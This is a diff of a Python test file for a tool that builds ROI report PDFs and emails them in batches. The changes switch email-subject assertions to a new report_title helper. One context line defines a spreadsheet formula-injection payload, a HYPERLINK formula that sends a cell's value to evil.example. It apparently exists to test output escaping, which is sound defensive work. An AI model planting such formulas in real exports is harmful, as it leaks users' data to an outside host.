@@ -27,7 +27,7 @@ from roi_report.delivery.batch import (
     summary_table,
     write_summaries,
 )
-from roi_report.pdf.texts import texts
+from roi_report.pdf.sections.base import report_title
 
 INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
@@ -182,11 +182,11 @@ def test_every_good_client_got_its_email(agency):
     }
     out = agency["out"]
     polish = received[("prezes@firma.example", "cfo@firma.example")]
-    assert str(polish["Subject"]).startswith(texts("pl")["default_title"])
+    assert str(polish["Subject"]).startswith(report_title(None, "pl"))
     pdf = next(polish.iter_attachments())
     assert pdf.get_content() == (out / "escaped" / "escape-roi.pdf").read_bytes()
     french = received[("dg@evil.example",)]
-    assert str(french["Subject"]).startswith(texts("fr")["default_title"])
+    assert str(french["Subject"]).startswith(report_title(None, "fr"))
 
 
 def test_progress_lines_when_not_a_terminal(agency):
@@ -284,7 +284,7 @@ def test_good_batch_exits_0_with_dry_run_emails(tmp_path):
     ]
     message = BytesParser(policy=policy.default).parse(emls[0].open("rb"))
     assert str(message["To"]) == "uno@cliente.example"
-    assert str(message["Subject"]).startswith(texts("es")["default_title"] + ": One")
+    assert str(message["Subject"]).startswith(report_title(None, "es") + ": One")
     statuses = {r["Client"]: r["Status"] for r in read_csv(tmp_path / "out" / "summary.csv")}
     assert statuses == {"One": "email written", "Two": "email written"}
     assert "2 of 2 reports built" in result.output
